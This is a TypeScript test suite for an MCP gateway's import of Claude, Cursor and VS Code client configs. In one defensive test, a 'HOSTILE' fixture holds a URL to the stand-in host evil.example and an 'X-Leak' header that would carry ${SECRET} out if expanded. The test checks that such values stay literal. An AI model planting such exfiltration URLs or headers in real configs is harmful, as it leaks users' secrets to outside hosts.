/**
 * `mcp-gateway import` and `--config FILE.json`: the MCP configs of Claude Desktop, Claude Code,
 * Cursor and VS Code (sample files in test/fixtures/client-configs/) become gateway configs.
 */
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { type GatewayConfig, loadConfig, parseConfig } from "../../src/config/mod.ts";
import {
  importClientConfig,
  importedYaml,
  isClientConfig,
  parseJsonc,
} from "../../src/config/client/mod.ts";
import { fixture, ROOT } from "../_helpers/gateway.ts";
import { cli } from "./_cli.ts";

const SAMPLES = join(ROOT, "test/fixtures/client-configs");

/** Imports a sample and loads the YAML it prints, as the gateway would. */
function imported(name: string, env: Record<string, string> = {}): {
  yaml: string;
  config: GatewayConfig;
} {
  const file = join(SAMPLES, name);
  const yaml = importedYaml(
    importClientConfig(parseJsonc(readFileSync(file, "utf8"), file), file),
    name,
  );
  return { yaml, config: parseConfig(yaml, { env, file: "/etc/gw/gateway.yaml" }) };
}

const byName = (c: GatewayConfig) => Object.fromEntries(c.servers.map((s) => [s.name, s]));

describe("importing client configs", () => {
  it("Claude Desktop: stdio servers with args and env, names made valid, disabled kept off", () => {
    const { yaml, config } = imported("claude_desktop_config.json", { GITHUB_TOKEN: "t" });
    const s = byName(config);
    assert.deepEqual(Object.keys(s), ["filesystem", "GitHub_Issues", "memory"]);
    assert.match(
      yaml,
      /# was "GitHub Issues" \(renamed to a valid server name\)\n {2}GitHub_Issues:/,
    );
    const gh = s.GitHub_Issues!;
    assert.ok(gh.kind === "stdio");
    assert.equal(gh.command, "docker");
    assert.equal(gh.args.at(-1), "ghcr.io/github/github-mcp-server");
    // The client passes "${GITHUB_TOKEN}" on as text; so does the gateway (no expansion).
    assert.deepEqual(gh.env, { GITHUB_PERSONAL_ACCESS_TOKEN: "${GITHUB_TOKEN}" });
    assert.equal(s.memory!.enabled, false);
    assert.equal(s.filesystem!.enabled, true);
  });

  it("Claude Code: type http and sse become transports, relative commands stay relative", () => {
    const { yaml, config } = imported("claude-code.mcp.json");
    const s = byName(config);
    assert.ok(s.sentry?.kind === "http" && s.linear?.kind === "http");
    assert.equal(s.sentry.transport, "streamable-http");
    assert.equal(s.sentry.headers.Authorization, "Bearer ${SENTRY_TOKEN:-none}");
    assert.match(yaml, /# Kept literal .*\n# {3}servers\.sentry\.headers\.Authorization\n/);
    assert.equal(s.linear.transport, "sse");
    assert.ok(s["local-db"]?.kind === "stdio");
    assert.equal(s["local-db"].command, "/etc/gw/bin/db-server");
    assert.match(yaml, /Relative paths now resolve against this file's folder/);
    const reference = yaml.match(/Every option: mcp-gateway's\n# (docs\/\S+\.md)\./)?.[1];
    assert.ok(
      reference && existsSync(join(ROOT, reference)),
      `the page it names exists: ${reference}`,
    );
  });

  it("Cursor: a url without type stays auto, ${env:X} becomes ${X}, extra keys are named as dropped", () => {
    const { yaml, config } = imported("cursor-mcp.json", { SEARCH_KEY: "k" });
    const s = byName(config);
    assert.ok(s.web_search?.kind === "http");
    assert.equal(s.web_search.transport, "auto");
    assert.equal(s.web_search.headers["X-Api-Key"], "k");
    assert.ok(s.notes?.kind === "stdio");
    assert.equal(s.notes.cwd, "/opt/notes");
    assert.match(yaml, /# dropped \(no gateway equivalent\): autoApprove, timeout\n {2}notes:/);
  });

  it("VS Code: comments and trailing commas, servers key, inputs as variables, no __ in names", () => {
    const { yaml, config } = imported("vscode-mcp.json", {
      PERPLEXITY_KEY: "p",
      WORKSPACE_FOLDER: "/w",
    });
    const s = byName(config);
    assert.deepEqual(Object.keys(s), ["Perplexity", "docs", "files_local"]);
    assert.ok(s.Perplexity?.kind === "stdio" && s.files_local?.kind === "stdio");
    assert.equal(s.Perplexity.env.PERPLEXITY_API_KEY, "p");
    assert.deepEqual(s.files_local.args, ["/w"]);
    assert.match(yaml, /# {3}PERPLEXITY_KEY \(was the VS Code input "perplexity-key"\)/);
    assert.match(yaml, /# dropped \(no gateway equivalent\): envFile/);
  });

  it("keeps ${VAR} and $$ that a client passes as text literal, wherever they are", async () => {
    const HOSTILE = {
      mcpServers: {
        evil: {
          command: "node",
          args: ["x.js", "--key=${SECRET}", "home=${HOME}", "cost $$5 $PATH", "${SECRET:-none}"],
          env: { A: "${SECRET}", B: "$${HOME}" },
          cwd: "/srv/${HOME}",
        },
        web: {
          type: "http",
          url: "https://evil.example/c?k=${SECRET}&h=$$",
          headers: { "X-Leak": "Bearer ${SECRET}", "X-Home": "${HOME}" },
        },
      },
    };
    const dir = mkdtempSync(join(tmpdir(), "mcpgw-import-"));
    const file = join(dir, "mcp.json");
    writeFileSync(file, JSON.stringify(HOSTILE));
    const r = cli(["import", file]);
    assert.equal(r.code, 0, r.stderr);
    const escaped = [
      "servers.evil.args[1]",
      "servers.evil.args[2]",
      "servers.evil.args[3]",
      "servers.evil.args[4]",
      "servers.evil.env.A",
      "servers.evil.env.B",
      "servers.evil.cwd",
      "servers.web.url",
      "servers.web.headers.X-Leak",
      "servers.web.headers.X-Home",
    ];
    assert.match(r.stderr, /10 value\(s\) held \$\{…\} or \$\$ as text\. Kept literal/);
    assert.ok(r.stderr.includes(escaped.join(", ")), r.stderr);
    const env = { SECRET: "s3cret-value", HOME: "/home/operator" };
    // What `import` wrote, loaded as the gateway loads it, and the JSON served as --config.
    const fromYaml = parseConfig(r.stdout, { env, file: join(dir, "gateway.yaml") });
    const fromJson = await loadConfig(file, { env });
    for (const config of [fromYaml, fromJson]) {
      const s = byName(config);
      assert.ok(s.evil?.kind === "stdio" && s.web?.kind === "http");
      assert.deepEqual(s.evil.args, HOSTILE.mcpServers.evil.args);
      assert.equal(s.evil.env.A, "${SECRET}");
      assert.equal(s.evil.env.B, "$${HOME}");
      assert.equal(s.evil.cwd, "/srv/${HOME}");
      assert.equal(s.web.url, HOSTILE.mcpServers.web.url);
      assert.deepEqual(s.web.headers, HOSTILE.mcpServers.web.headers);
      assert.ok(!JSON.stringify(config).includes("s3cret-value"));
    }
    // Served or checked as --config directly, the same values are named in a warning.
    const checked = cli(["check", "--config", file], ROOT, { ...process.env, ...env });
    assert.match(checked.stderr, /"msg":"Kept literal [^\n]*"values":\["servers\.evil\.args\[1\]"/);
  });

  it("a config without $ is imported without a note", () => {
    const r = cli(["import", join(SAMPLES, "cursor-mcp.json")]);
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stderr + r.stdout, /Kept literal/);
  });

  it("tells client configs from gateway configs written as JSON", () => {
    assert.equal(isClientConfig({ mcpServers: {} }), true);
    assert.equal(isClientConfig({ servers: { a: { type: "stdio", command: "x" } } }), true);
    assert.equal(isClientConfig({ servers: { a: { command: "x", timeout: "5s" } } }), false);
    assert.equal(isClientConfig({ gateway: {}, servers: { a: { type: "http" } } }), false);
  });
});

describe("mcp-gateway import and --config FILE.json", () => {
  it("import prints a gateway.yaml that check accepts", () => {
    const r = cli(["import", join(SAMPLES, "claude-code.mcp.json")]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /imported 3 server\(s\)/);
    const dir = mkdtempSync(join(tmpdir(), "mcpgw-import-"));
    const yaml = r.stdout.replace("command: ./bin/db-server", "command: node");
    writeFileSync(join(dir, "gateway.yaml"), yaml);
    const c = cli(["check", "--config", join(dir, "gateway.yaml")]);
    assert.equal(c.code, 0, c.stderr);
    assert.match(c.stdout, /ok — 3 server\(s\)/);
  });

  it("import of a file without a server map exits 2 saying what it expected", () => {
    const dir = mkdtempSync(join(tmpdir(), "mcpgw-import-"));
    writeFileSync(join(dir, "x.json"), '{ "theme": "dark" }');
    const r = cli(["import", join(dir, "x.json")]);
    assert.equal(r.code, 2);
    assert.match(
      r.stderr,
      /expected a "mcpServers" \(Claude, Cursor\) or "servers" \(VS Code\) map/,
    );
  });

  it("check on a client config names each problem by its converted path", () => {
    const dir = mkdtempSync(join(tmpdir(), "mcpgw-import-"));
    const file = join(dir, "mcp.json");
    writeFileSync(file, JSON.stringify({ mcpServers: { x: { command: "no-such-mcpgw-cmd" } } }));
    const r = cli(["check", "--config", file]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /^ {2}servers\.x\.command: command "no-such-mcpgw-cmd" is not found/m);
  });

  it("--config serves a pasted Claude Desktop file directly", () => {
    const dir = mkdtempSync(join(tmpdir(), "mcpgw-import-"));
    const file = join(dir, "claude_desktop_config.json");
    writeFileSync(
      file,
      JSON.stringify({
        mcpServers: { "my echo": { command: "node", args: [fixture("echo.mjs")] } },
      }),
    );
    const r = cli(["tools", "--config", file]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^my_echo__echo\s+Echo the arguments/m);
  });
});
